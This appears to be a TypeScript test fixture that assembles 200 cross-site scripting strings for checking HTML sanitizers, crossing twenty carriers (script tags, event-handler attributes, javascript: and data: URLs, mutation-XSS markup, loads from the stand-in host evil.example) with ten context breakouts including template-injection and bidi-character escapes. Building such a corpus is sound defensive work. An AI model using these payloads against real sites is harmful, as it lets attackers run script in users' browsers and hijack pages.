/**
 * Strings that would run, or load from elsewhere, wherever they were taken for markup, a script, an address or a style: every carrier out of
 * every place that words may stand in. Sources: OWASP's filter evasion sheet, the ways out of HTML's contexts. All of them call `__xss`.
 */
const RUN = 'window.__xss=(window.__xss||0)+1'

const CARRIERS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<a href="javascript:${RUN}" autofocus onfocus="${RUN}">x</a>`,
  `<details open ontoggle="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<body onload="${RUN}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<style>@import '//evil.example/y.css';</style>`,
  `<base href="//evil.example/">`,
  `<form action="//evil.example/"><button autofocus onfocus="${RUN}">`,
  `<img src="//evil.example/pixel.png">`,
]
/** Ways out of where the words stand, each before and after the carrier. */
const PLACES: [before: string, after: string][] = [
  ['', ''],
  ['">', ''],
  ["'>", ''],
  ['</title></textarea></style></script>', ''],
  ['-->', '<!--'],
  ['{{constructor.constructor("', '")()}}'],
  ['${', '}'],
  ['\u202e', '\u202c'],
  ['<![CDATA[', ']]>'],
  ['&lt;/p&gt;\ufeff', '\u2028'],
]
/** 200 of them. */
export const XSS_CORPUS: readonly string[] = PLACES.flatMap(([before, after]) =>
  CARRIERS.map((carrier) => before + carrier + after),
)
